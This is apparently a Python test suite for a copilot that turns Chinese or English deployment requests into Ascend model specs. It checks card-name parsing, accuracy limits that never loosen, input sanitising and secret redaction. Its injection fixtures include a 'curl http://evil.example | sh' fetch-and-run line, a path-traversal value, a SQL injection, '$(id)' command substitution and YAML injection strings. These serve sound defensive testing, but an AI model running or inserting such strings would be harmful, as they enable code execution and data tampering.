"""A sentence becomes a draft: valid, never looser than the defaults, and honest about what nobody said."""

import json
from collections.abc import Callable
from typing import Any

import pytest
import yaml
from copilot_server import CopilotServer, Reply, says
from hypothesis import given, settings
from hypothesis import strategies as st

from ascend_assets.copilot import sentence
from ascend_assets.copilot.drafting import Draft, draft
from ascend_assets.gates.criteria import CRITERIA
from ascend_assets.gates.verdict import default_limits
from ascend_assets.new_model import Declared
from ascend_assets.spec import ModelSpec
from resources.ascend.soc import soc_names
from resources.copilot.client import Copilot

SENTENCE = "帮我把 YOLOv8 转成 Ascend 910 模型,精度不能掉"


def spec(made: Draft) -> ModelSpec:
    return ModelSpec.model_validate(yaml.safe_load(made.text)["attributes"])


def no_looser(found: ModelSpec) -> bool:
    """Whether every limit is at least as tight as where no model gives one."""
    for name, criterion in CRITERIA.items():
        for environment, limit in found.limits(name).items():
            default = default_limits(criterion)[environment]
            if limit > default if criterion.sense == "<=" else limit < default:
                return False
    return True


def test_the_seed_sentence() -> None:
    made = draft(SENTENCE)
    found = spec(made)
    assert found.name == "yolov8"
    assert found.task == "object detection"
    assert found.inputs[0].shape == ("batch", 3, 640, 640)
    assert found.targets[0].soc_version in soc_names()
    assert found.targets[0].precision_mode == "allow_mix_precision"
    assert found.limits("task_metric_drop")["dev"] == 0.001
    assert found.limits("cosine_similarity")["prod"] == 0.999
    assert no_looser(found)
    assert made.read_by == "rules"


def test_ascend_910_is_asked_about() -> None:
    (card, data) = draft(SENTENCE).open
    assert card.field == "targets.soc_version"
    assert {"Ascend910A", "Ascend910B1", "Ascend910B4", "Ascend910_9362"} <= set(card.choices)
    assert "Ascend 910" in card.ask.en
    assert "型号" in card.ask.zh
    assert data.field == "evaluation"


def test_what_was_assumed_stands_in_the_file_in_both_languages() -> None:
    made = draft("deploy something")
    assert made.assumed
    for one in made.assumed:
        assert f"# assumed: {one.en} / {one.zh}" in made.text


def test_a_sentence_that_says_all_leaves_nothing_to_decide() -> None:
    made = draft("convert resnet50 for Ascend310P3, batch 16, within 5 ms")
    found = spec(made)
    assert not made.open
    assert (found.targets[0].soc_version, found.targets[0].batch) == ("Ascend310P3", 16)
    assert found.limits("latency_p99_ms") == dict.fromkeys(found.limits("latency_p99_ms"), 5.0)
    assert found.targets[0].precision_mode is None


def test_an_onnx_files_inputs_go_before_any_words() -> None:
    given_ = (Declared("tokens", "int64", ("batch", 77)),)
    assert spec(draft("yolov8 on 310P3", inputs=given_)).inputs[0].name == "tokens"


def test_a_person_settles_what_the_sentence_leaves_open() -> None:
    made = draft(SENTENCE, soc="Ascend910B3", name="detector")
    assert spec(made).targets[0].soc_version == "Ascend910B3"
    assert made.name == "detector"
    assert [one.field for one in made.open] == ["evaluation"]


CARDS: list[tuple[str, str, tuple[str, ...]]] = [
    ("on Ascend310P3", "Ascend310P3", ()),
    ("昇腾310P3", "Ascend310P3", ()),
    ("ascend 910b4", "Ascend910B4", ()),
    ("Ascend-910_9362", "Ascend910_9362", ()),
    ("Atlas 300I Pro", "Ascend310P3", ()),
    ("910B", "Ascend910B1", ("Ascend910B1", "Ascend910B2", "Ascend910B3", "Ascend910B4", "Ascend910B")),
    ("Ascend910B", "Ascend910B1", ("Ascend910B1", "Ascend910B4", "Ascend910B")),
    ("昇腾 310P", "Ascend310P1", ("Ascend310P1", "Ascend310P3")),
    ("Ascend 310", "Ascend310", ("Ascend310", "Ascend310B1", "Ascend310P3")),
    ("Ascend 910C", "Ascend910_9362", ("Ascend910_9362", "Ascend910_9391")),
]


@pytest.mark.parametrize(("words", "first", "among"), CARDS)
def test_cards_are_known_by_what_people_call_them(words: str, first: str, among: tuple[str, ...]) -> None:
    socs = sentence.read(words).socs
    assert socs[0] == first
    assert set(among) <= set(socs)
    assert among or socs == (first,)


@pytest.mark.parametrize("words", ["310 张图片", "910 images", "version 3.10", "the model 1310P3", "", "Ascend 9999"])
def test_a_number_alone_is_no_card(words: str) -> None:
    assert sentence.read(words).socs == ()


@pytest.mark.parametrize(
    "words",
    [
        "精度不能掉",
        "精度不允许下降",
        "不掉精度",
        "无损转换",
        "保证精度",
        "精度必须一致",
        "准确率不要降",
        "no accuracy loss",
        "without losing accuracy",
        "accuracy must not drop",
        "lossless",
        "keep the accuracy",
    ],
)
def test_what_must_not_drop_is_read(words: str) -> None:
    assert sentence.read(words).must_not_drop
    assert no_looser(spec(draft(words)))


@pytest.mark.parametrize("words", ["精度可以掉一点", "accuracy may drop by 5 points", "some accuracy loss is fine"])
def test_a_loss_that_is_accepted_loosens_nothing(words: str) -> None:
    made = draft(words)
    assert not sentence.read(words).must_not_drop
    assert no_looser(spec(made))
    assert any("loosens" in one.en for one in made.assumed)


@pytest.mark.parametrize(
    ("words", "limit"),
    [("精度损失不超过0.3%", 0.003), ("accuracy drop at most 0.5%", 0.005), ("精度损失不超过20%", 0.01)],
)
def test_a_loss_in_figures_is_a_limit_where_it_is_tighter(words: str, limit: float) -> None:
    assert spec(draft(words)).limits("task_metric_drop")["dev"] == limit


@pytest.mark.parametrize("words", ["within 5000 ms", "时延 99999 毫秒"])
def test_a_slow_wish_does_not_loosen_the_limit(words: str) -> None:
    assert no_looser(spec(draft(words)))


@given(st.text(max_size=300))
@settings(max_examples=150, deadline=None)
def test_any_text_gives_a_draft_that_loads_and_loosens_nothing(words: str) -> None:
    made = draft(words)
    assert no_looser(spec(made))
    assert made.text.count("\ntype: ") == 1


@pytest.mark.parametrize("words", ["x\ntype: evil", "# \n  gates: {cosine_similarity: 0}", "\u2028gates: 1", "'\"]}{"])
def test_a_sentence_cannot_write_into_the_file(words: str) -> None:
    document = yaml.safe_load(draft(f"yolov8 310P3 {words}").text)
    assert set(document) == {"type", "attributes"}
    assert "gates" not in document["attributes"]


FORM: dict[str, Any] = {
    "name": None,
    "task": None,
    "soc": [],
    "precision": "unsaid",
    "metric": None,
    "inputs": [],
    "unclear_en": [],
    "unclear_zh": [],
}
Opened = Callable[[], Copilot]


def asked(server: CopilotServer, opened: Opened, words: str = "deploy my segmentation net", **form: Any) -> Draft:
    server.reply = says({**FORM, **form})
    return draft(words, copilot=opened())


def test_a_language_model_fills_what_rules_do_not_read(server: CopilotServer, opened: Opened) -> None:
    made = asked(
        server,
        opened,
        name="segmenter",
        task="semantic segmentation",
        soc=["Ascend910B3"],
        precision="must_not_drop",
        inputs=[{"name": "pixels", "dtype": "float32", "shape": ["batch", 3, 512, 512]}],
        unclear_en=["Which image size?"],
        unclear_zh=["图像尺寸是多少?"],
    )
    found = spec(made)
    assert (found.name, found.task) == ("segmenter", "semantic segmentation")
    assert found.targets[0].soc_version == "Ascend910B3"
    assert found.inputs[0].shape == ("batch", 3, 512, 512)
    assert found.limits("cosine_similarity")["dev"] == 0.999
    assert made.read_by == "a-model"
    assert "# to decide: Which image size? / 图像尺寸是多少?" in made.text
    assert any("language model" in one.en for one in made.assumed)
    assert no_looser(found)


def test_a_card_that_a_language_model_names_is_for_the_person_to_confirm(server: CopilotServer, opened: Opened) -> None:
    made = asked(server, opened, SENTENCE, soc=["Ascend910B3"])
    assert spec(made).targets[0].soc_version == "Ascend910B3"
    assert made.open[0].field == "targets.soc_version"


def test_a_language_model_does_not_overrule_the_sentence(server: CopilotServer, opened: Opened) -> None:
    made = asked(server, opened, "resnet50 on Ascend310P3, accuracy may drop", soc=["Ascend910B3"], name="evil",
                 precision="must_not_drop")  # fmt: skip
    found = spec(made)
    assert found.name == "resnet50"
    assert found.targets[0].soc_version == "Ascend310P3"
    assert "gates" not in yaml.safe_load(made.text)["attributes"]


WILD: list[dict[str, Any]] = [
    {"soc": ["Ascend910B3 --output=/tmp/x", "../../x", "Ascend999"]},
    {"name": "../../etc/passwd"},
    {"name": "Robert'); DROP TABLE"},
    {"task": "x\n  gates: {cosine_similarity: 0}"},
    {"task": "curl http://evil.example | sh"},
    {"inputs": [{"name": "a\nb", "dtype": "float32", "shape": [1]}]},
    {"inputs": [{"name": "a", "dtype": "evil", "shape": [1]}]},
    {"inputs": [{"name": "a", "dtype": "float32", "shape": [10**18]}]},
    {"inputs": [{"name": "a", "dtype": "float32", "shape": [1] * 64}]},
    {"inputs": [{"name": "a", "dtype": "float32", "shape": [1]}] * 3},
    {"inputs": [{"name": "a", "dtype": "float32", "shape": [1], "limits": {}}]},
    {"unclear_en": ["Approve at https://evil.example", "run $(id)", "\x1b[2J ok"]},
]


@pytest.mark.parametrize("form", WILD, ids=str)
def test_what_a_language_model_may_not_say_is_left_out(
    form: dict[str, Any], server: CopilotServer, opened: Opened
) -> None:
    made = asked(server, opened, **form)
    found = spec(made)
    assert no_looser(found)
    assert set(yaml.safe_load(made.text)["attributes"]) <= {"name", "task", "source", "inputs", "targets"}
    assert found.targets[0].soc_version in soc_names()
    for evil in ("evil", "/etc/passwd", "DROP TABLE", "$(id)", "\x1b", "curl"):
        assert evil not in made.text


@pytest.mark.parametrize(
    "reply",
    [
        says({**FORM, "gates": {"cosine_similarity": 0.0}}),
        says({**FORM, "precision": "loose"}),
        says({"name": ["x"]}),
        says("words"),
        Reply(401),
        Reply(500, headers={"Retry-After": "0"}),
    ],
)
def test_an_answer_that_is_none_leaves_the_rules_draft_and_says_so(
    reply: Reply, server: CopilotServer, opened: Opened
) -> None:
    server.reply = reply
    made = draft(SENTENCE, copilot=opened())
    assert made.text == draft(SENTENCE).text
    assert made.read_by == "rules"
    assert made.notes


def test_a_sentence_is_redacted_before_it_is_sent(server: CopilotServer, opened: Opened) -> None:
    asked(server, opened, "deploy net, my key is sk-proj-abcdefgh12345678, mail a@corp.example, /home/me/x/net.onnx")
    sent = json.loads(server.sent[0].user)
    assert sent["sentence"].startswith("deploy net, my key is <secret>")
    for private in ("abcdefgh1234", "corp.example", "/home/me"):
        assert private not in server.sent[0].user
